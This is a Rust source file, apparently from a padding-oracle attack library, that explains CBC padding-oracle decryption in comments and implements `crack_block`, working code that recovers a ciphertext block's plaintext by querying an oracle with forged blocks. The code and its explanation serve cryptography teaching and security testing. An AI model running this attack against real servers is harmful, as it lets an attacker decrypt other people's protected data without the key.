// Recovering one block of plaintext with a padding oracle.
//
// CBC decrypts a block as
//
//                 P_i = D(C_i) ⊕ C_{i-1}.
//
// Call I_i = D(C_i) the intermediate state of C_i. It depends only on the key
// and on C_i, so if we send the oracle a two block message X || C_i, where X
// is a block we control, the server computes
//
//                 P' = I_i ⊕ X
//
// and tells us whether P' ends in valid PKCS#7 padding.
//
// Start with the final byte. Vary X[n-1] until the oracle accepts X || C_i.
// The most likely reason is that P'[n-1] = \x01, which gives us
//
//                 I_i[n-1] = X[n-1] ⊕ \x01
//                 P_i[n-1] = I_i[n-1] ⊕ C_{i-1}[n-1].
//
// Then aim for the padding \x02\x02: set X[n-1] = I_i[n-1] ⊕ \x02 and vary
// X[n-2] until the oracle accepts. Repeat with \x03\x03\x03 and so on until
// the whole block is known.
//
// We do not search over X directly but over a guess g of the plaintext byte,
// with X[k] = C_{i-1}[k] ⊕ g ⊕ pad. A hit means g = P_i[k]. The guess g = pad
// leaves the reference byte untouched.
//
// The final byte is the only place where the oracle can accept for a reason
// other than the one we are aiming for: if P_i already ends in, say, \x02\x02
// then the untouched reference is accepted too. So for the final byte the
// untouched guess is tried after all the others.
use log::trace;

use crate::block::check_block_size;
use crate::{Error, PaddingOracle, Result};

/// Recovers the plaintext of `target`, given the block that precedes it.
///
/// The oracle is queried with `forced || target` where `forced` is a patched
/// copy of `reference`; the caller's buffers are never modified. Takes at most
/// `256 * block_size` queries.
///
/// Fails with [`Error::OracleExhausted`] (with `block` set to 0) if no guess
/// validates at some byte.
pub fn crack_block<O>(reference: &[u8], target: &[u8], oracle: &O) -> Result<Vec<u8>>
where
    O: PaddingOracle + ?Sized,
{
    let block_size = target.len();
    let max_pad = check_block_size(block_size)?;
    if reference.len() != block_size {
        return Err(Error::InvalidLength {
            length: reference.len(),
            block_size,
        });
    }

    let mut forced = reference.to_vec();
    let mut plaintext = vec![0u8; block_size];
    let mut query = Vec::with_capacity(2 * block_size);
    for pad in 1..=max_pad {
        let position = block_size - pad as usize;
        for k in (position + 1)..block_size {
            forced[k] = reference[k] ^ plaintext[k] ^ pad;
        }

        let mut queries = 0usize;
        let found = candidates(pad).find(|&guess| {
            queries += 1;
            forced[position] = reference[position] ^ guess ^ pad;
            query.clear();
            query.extend_from_slice(&forced);
            query.extend_from_slice(target);
            oracle.validate(&query)
        });

        match found {
            Some(byte) => {
                trace!("byte {} is {byte:#04x} after {queries} queries", position + 1);
                plaintext[position] = byte;
            }
            None => {
                return Err(Error::OracleExhausted {
                    block: 0,
                    position: position + 1,
                })
            }
        }
    }

    Ok(plaintext)
}

/// The order guesses are tried in for a given pad value.
fn candidates(pad: u8) -> impl Iterator<Item = u8> {
    let last = (pad == 1).then_some(pad);
    (0..=u8::MAX)
        .filter(move |&guess| Some(guess) != last)
        .chain(last)
}
